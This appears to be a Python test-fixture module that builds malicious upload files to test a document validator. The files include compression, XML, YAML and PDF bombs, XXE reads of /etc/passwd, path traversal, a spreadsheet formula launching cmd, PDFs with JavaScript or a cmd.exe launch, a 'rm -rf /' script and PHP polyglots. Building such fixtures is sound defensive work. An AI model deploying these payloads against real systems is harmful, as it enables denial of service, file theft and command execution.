"""Files made to exhaust, to mislead or to bring something in: bombs, polyglots, programs, loops, far cells, a hundred megabytes.

`DATEIEN` holds for each name how it is called and how it is made. None of them is in the repository as a file.
"""

import bz2
import gzip
import io
import lzma
import os
import struct
import zipfile
import zlib
from collections.abc import Callable

import pypdf
from openpyxl import Workbook
from PIL import Image, PngImagePlugin
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from tests.kommunen.test_dateien import archive, huge_png, pdf, picture
from tests.statistik.dateien import archiv, xlsx
from tests.statistik.test_feindlich import ferne_zelle, kleiner_behauptet, xml_bombe

MB = 1_000_000
KOPF = b"ags;stichtag;indikator;wert\n"
LACHEN = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">' + b"".join(
    b'<!ENTITY %c "%s">' % (b"abcdefghij"[i], b"&%c;" % b"abcdefghij"[i - 1] * 20) for i in range(1, 10)
)
FERNE_VORLAGE = '<Relationship Type="http://x/attachedTemplate" Target="http://example.org/x.dotm" TargetMode="External"/>'
FREMD = b"FREMDER-TEIL"  # what a polyglot brings besides


def blatt_ersetzt(aendern: Callable[[bytes], bytes], teil="xl/worksheets/sheet1.xml") -> bytes:
    """A small workbook one part of which was written by somebody else."""
    ausgabe = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(xlsx(["ags", "wert"], ["03101", 5]))) as alt,
        zipfile.ZipFile(ausgabe, "w", zipfile.ZIP_DEFLATED) as neu,
    ):
        for name in alt.namelist():
            neu.writestr(name, aendern(alt.read(name)) if name == teil else alt.read(name))
    return ausgabe.getvalue()


def dazu(inhalt: bytes, **teile: bytes | str) -> bytes:
    """An archive with further parts."""
    ausgabe = io.BytesIO(inhalt)
    with zipfile.ZipFile(ausgabe, "a", zipfile.ZIP_DEFLATED) as datei:
        for name, teil in teile.items():
            datei.writestr(name, teil)
    return ausgabe.getvalue()


def docx() -> bytes:
    return archive("[Content_Types].xml", "word/document.xml")


def verschachtelt(stufen: int) -> bytes:
    inhalt = archiv(a_csv=b"0;" * 5 * MB)
    for _ in range(stufen):
        inhalt = archiv(**{f"a{i}_zip": inhalt for i in range(10)})
    return inhalt


def viele_namen() -> bytes:
    ausgabe = io.BytesIO()
    with zipfile.ZipFile(ausgabe, "w") as datei:
        for i in range(100_000):
            datei.writestr(f"{i}.csv", b"")
    return ausgabe.getvalue()


def uebereinander() -> bytes:
    """Ten thousand entries of one directory that all mean the same compressed bytes (after David Fifield, 2019)."""
    inhalt = archiv(a_csv=b"0;" * 20 * MB)
    ende = inhalt.rindex(b"PK\x05\x06")
    anfang = struct.unpack("<I", inhalt[ende + 16 : ende + 20])[0]
    verzeichnis = inhalt[anfang:ende] * 10_000
    schluss = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 10_000, 10_000, len(verzeichnis), anfang, 0)
    return inhalt[:anfang] + verzeichnis + schluss


def verschluesselt() -> bytes:
    inhalt = bytearray(archiv(a_csv=KOPF))
    for zeichen, stelle in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        inhalt[inhalt.index(zeichen) + stelle] |= 1
    return bytes(inhalt)


def mappe(aendern: Callable[[Workbook], None]) -> bytes:
    return xlsx(["ags", "wert"], ["03101", 5], aendern=aendern)


def viele_blaetter(buch):
    for i in range(3_000):
        buch.create_sheet(f"B{i}").append([i])


def lange_zelle(text: bytes) -> bytes:
    return text.replace(b"</sheetData>", b'<row><c t="inlineStr"><is><t>' + b"x" * 100 * MB + b"</t></is></c></row></sheetData>")


def geteilte_texte() -> bytes:
    art = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
    nennen = b'<Override PartName="/xl/sharedStrings.xml" ContentType="%b"/></Types>' % art
    mappe = blatt_ersetzt(lambda text: text.replace(b"</Types>", nennen), "[Content_Types].xml")
    namensraum = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    texte = namensraum + (b"<si><t>" + b"y" * 1000 + b"</t></si>") * 200_000 + b"</sst>"
    return dazu(mappe, **{"xl/sharedStrings.xml": texte})


def viele_formate(text: bytes) -> bytes:
    return text.replace(b"</cellXfs>", b'<xf numFmtId="0" fontId="0" fillId="0" borderId="0"/>' * 2_000_000 + b"</cellXfs>")


def mit_entitaet(text: bytes) -> bytes:
    return text.replace(b"<worksheet", b'<!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><worksheet', 1).replace(
        b"</sheetData>", b'<row><c t="inlineStr"><is><t>&x;</t></is></c></row></sheetData>'
    )


def png_teil(art: bytes, inhalt: bytes) -> bytes:
    """A small picture with one more chunk."""
    bild = picture("PNG")
    teil = struct.pack(">I", len(inhalt)) + art + inhalt + struct.pack(">I", zlib.crc32(art + inhalt))
    return bild[:33] + teil + bild[33:]


def bild_mit_text() -> bytes:
    ausgabe, text = io.BytesIO(), PngImagePlugin.PngInfo()
    text.add_text("Comment", f"<?php {FREMD.decode()} ?>")
    Image.new("RGB", (40, 30), "red").save(ausgabe, "PNG", pnginfo=text)
    return ausgabe.getvalue()


def pdf_mit(aendern: Callable[[pypdf.PdfWriter], object]) -> bytes:
    schreiber = pypdf.PdfWriter()
    schreiber.add_blank_page(72, 72)
    aendern(schreiber)
    ausgabe = io.BytesIO()
    schreiber.write(ausgabe)
    return ausgabe.getvalue()


def aktion(**angaben) -> DictionaryObject:
    return DictionaryObject({NameObject(f"/{name}"): wert for name, wert in angaben.items()})


def oeffnet_mit_skript(schreiber):
    schreiber.root_object[NameObject("/OpenAction")] = aktion(S=NameObject("/JavaScript"), JS=TextStringObject("app.alert(1)"))


def startet_programm(schreiber):
    schreiber.root_object[NameObject("/OpenAction")] = aktion(S=NameObject("/Launch"), F=TextStringObject("cmd.exe"))


def knopf_mit_skript(schreiber):
    handlung = aktion(S=NameObject("/JavaScript"), JS=TextStringObject("app.alert(1)"))
    stelle = aktion(Type=NameObject("/Annot"), Subtype=NameObject("/Link"), A=handlung)
    stelle[NameObject("/Rect")] = ArrayObject([NumberObject(n) for n in (0, 0, 9, 9)])
    schreiber.pages[0][NameObject("/Annots")] = ArrayObject([schreiber._add_object(stelle)])


def tief_verschachtelt() -> bytes:
    return b"%PDF-1.7\n1 0 obj\n" + b"[" * 200_000 + b"]" * 200_000 + b"\nendobj\ntrailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF"


def im_kreis() -> bytes:
    """A cross-reference table whose predecessor is itself, and a tree of pages that holds itself."""
    kopf = b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\n"
    eins, zwei, tabelle = kopf.index(b"1 0 obj"), kopf.index(b"2 0 obj"), len(kopf)
    zeilen = b"xref\n0 3\n0000000000 65535 f \n%010d 00000 n \n%010d 00000 n \n" % (eins, zwei)
    return kopf + zeilen + b"trailer<</Size 3/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF" % (tabelle, tabelle)


def gepackte_tabelle() -> bytes:
    """A cross-reference stream of 400 kB that unpacks to 400 MB."""
    strom = zlib.compress(b"\0" * 400 * MB, 9)
    kopf = b"%PDF-1.7\n1 0 obj<</Type/XRef/W[1 4 2]/Size 9/Root 1 0 R/Filter/FlateDecode/Length " + str(len(strom)).encode()
    return kopf + b">>stream\n" + strom + b"\nendstream endobj\nstartxref\n9\n%%EOF"


def jpeg_mit_archiv() -> bytes:
    return picture("JPEG") + archiv(x_php=FREMD) + FREMD


def yaml_bombe() -> bytes:
    zeilen = ["a: &a [x, x, x, x, x, x, x, x, x]"]
    zeilen += [f"{c}: &{c} [{', '.join([f'*{v}'] * 9)}]" for v, c in zip("abcdefgh", "bcdefghi", strict=True)]
    return "\n".join([*zeilen, "kennung: *i"]).encode()


EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

DATEIEN: dict[str, tuple[str, Callable[[], bytes]]] = {
    # archives
    "ZIP-Bombe": ("a.zip", lambda: archiv(a_csv=b"0;" * 250 * MB)),
    "ZIP-Bombe, die klein tut": ("a.zip", kleiner_behauptet),
    "Archive in Archiven": ("a.zip", lambda: verschachtelt(3)),
    "hunderttausend Namen": ("a.zip", viele_namen),
    "übereinander liegende Dateien": ("a.zip", uebereinander),
    "Pfade aus dem Archiv hinaus": ("a.zip", lambda: archive("../../etc/passwd", "/etc/x.csv")),
    "verschlüsseltes Archiv": ("a.zip", verschluesselt),
    "gzip-Bombe": ("a.csv.gz", lambda: gzip.compress(b"0;" * 100 * MB)),
    "bzip2-Bombe": ("a.csv.bz2", lambda: bz2.compress(b"0;" * 50 * MB)),
    "xz-Bombe": ("a.csv.xz", lambda: lzma.compress(b"0;" * 100 * MB, preset=0)),
    "7z": ("a.7z", lambda: b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\0" * 100),
    "RAR": ("a.rar", lambda: b"Rar!\x1a\x07\x01\x00" + b"\0" * 100),
    # workbooks
    "ferne Zelle": ("a.xlsx", ferne_zelle),
    "Zeilen ohne Ende": ("a.xlsx", xml_bombe),
    "Zelle mit 100 MB": ("a.xlsx", lambda: blatt_ersetzt(lange_zelle)),
    "200 MB gemeinsame Texte": ("a.xlsx", geteilte_texte),
    "zwei Millionen Formate": ("a.xlsx", lambda: blatt_ersetzt(viele_formate, "xl/styles.xml")),
    "Entität, die wächst": ("a.xlsx", lambda: blatt_ersetzt(lambda _: LACHEN + b"]><worksheet>&j;</worksheet>")),
    "Entität von draußen": ("a.xlsx", lambda: blatt_ersetzt(mit_entitaet)),
    "dreitausend Blätter": ("a.xlsx", lambda: mappe(viele_blaetter)),
    "Formel": ("a.xlsx", lambda: xlsx(["ags", "wert"], ["03101", "=cmd|' /C calc'!A0"])),
    "Makros": ("a.xlsm", lambda: dazu(xlsx(["ags"], ["03101"]), **{"xl/vbaProject.bin": b"x"})),
    "ohne Blatt": ("a.xlsx", lambda: blatt_ersetzt(lambda _: b"")),
    "abgeschnittene Mappe": ("a.xlsx", lambda: xlsx(["ags", "wert"], ["03101", 5])[:-200]),
    "altes Excel": ("a.xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000),
    "Mappe ohne Inhalt": ("a.xlsx", lambda: archive("[Content_Types].xml")),
    # texts
    "eine einzige Zelle": ("a.csv", lambda: KOPF + b"9" * 50 * MB),
    "Spalten ohne Ende": ("a.csv", lambda: b";" * 50 * MB),
    "Millionen Zeilen": ("a.csv", lambda: KOPF + b"1;2;3;4\n" * 7_000_000),
    "offenes Anführungszeichen": ("a.csv", lambda: KOPF + b'03101;2019;einwohner;"' + b"1\n" * 20 * MB),
    "100 MB Nullen": ("a.csv", lambda: b"\0" * 100 * MB),
    "100 MB Zufall": ("a.pdf", lambda: os.urandom(100 * MB)),
    "100 MB Tabelle": ("a.csv", lambda: KOPF + b"03101;31.12.2019;einwohner;5\n" * 3_500_000),
    "nur Zeilenwechsel": ("a.csv", lambda: b"\r" * 5 * MB),
    "UTF-16": ("a.csv", lambda: "ags;wert\n03101;5".encode("utf-16")),
    "halbe Umlaute": ("a.csv", lambda: "größe;wert\nö;1".encode().decode("latin-1").encode()),
    "YAML, das wächst": ("a.yaml", yaml_bombe),
    "JSON ohne Boden": ("a.json", lambda: b"[" * 200_000),
    "HTML": ("a.html", lambda: b"<!doctype html><script>alert(1)</script>"),
    "SVG mit Skript": ("a.svg", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
    "SVG, das wächst": ("a.svg", lambda: LACHEN + b"]><svg>&j;</svg>"),
    "XML von draußen": ("a.xml", lambda: b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]><x>&x;</x>'),
    # pictures
    "riesiges Bild": ("a.png", lambda: huge_png(30_000)),
    "Bild mit Textbombe": ("a.png", lambda: png_teil(b"zTXt", b"x\0\0" + zlib.compress(b"\0" * 200 * MB, 9))),
    "Bild mit Farbbombe": ("a.png", lambda: png_teil(b"iCCP", b"x\0\0" + zlib.compress(b"\0" * 200 * MB, 9))),
    "abgeschnittenes Bild": ("a.jpg", lambda: picture("JPEG")[:200]),
    "GIF": ("a.gif", lambda: picture("GIF")),
    "TIFF": ("a.tif", lambda: picture("TIFF")),
    "Bild und Archiv": ("a.jpg", jpeg_mit_archiv),
    "Bild und PHP": ("a.png", bild_mit_text),
    # PDF
    "PDF mit Skript": ("a.pdf", lambda: pdf_mit(oeffnet_mit_skript)),
    "PDF mit Knopf": ("a.pdf", lambda: pdf_mit(knopf_mit_skript)),
    "PDF startet Programm": ("a.pdf", lambda: pdf_mit(startet_programm)),
    "PDF mit Programm darin": ("a.pdf", lambda: pdf_mit(lambda schreiber: schreiber.add_attachment("x.exe", b"MZ" + FREMD))),
    "PDF mit Kennwort": ("a.pdf", lambda: pdf_mit(lambda schreiber: schreiber.encrypt("geheim"))),
    "PDF, tief verschachtelt": ("a.pdf", tief_verschachtelt),
    "PDF im Kreis": ("a.pdf", im_kreis),
    "PDF mit gepackter Tabelle": ("a.pdf", gepackte_tabelle),
    "PDF und Archiv": ("a.pdf", lambda: pdf() + archiv(x_php=FREMD)),
    "HTML vor dem PDF": ("a.pdf", lambda: b"<script>alert(1)</script>" + pdf()),
    # programs, and documents that bring one
    "Programm für Windows": ("a.pdf", lambda: b"MZ\x90\x00" + b"\0" * 500),
    "Programm für Linux": ("a.docx", lambda: b"\x7fELF\x02\x01\x01" + b"\0" * 500),
    "Shell": ("a.txt", lambda: b"#!/bin/sh\nrm -rf /\n"),
    "Verknüpfung": ("a.lnk", lambda: b"L\0\0\0\x01\x14\x02\0" + b"\0" * 100),
    "EICAR": ("a.com", lambda: EICAR),
    "Word mit Makros": ("a.docx", lambda: archive("[Content_Types].xml", "word/document.xml", "word/vbaProject.bin")),
    "Word mit Objekt": ("a.docx", lambda: dazu(docx(), **{"word/embeddings/oleObject1.bin": b"MZ" + FREMD})),
    "Word mit fremder Vorlage": (
        "a.docx",
        lambda: dazu(docx(), **{"word/_rels/settings.xml.rels": FERNE_VORLAGE}),
    ),
    "Text mit Basic": ("a.odt", lambda: archive("Basic/x.xml", first="application/vnd.oasis.opendocument.text")),
}  # fmt: skip
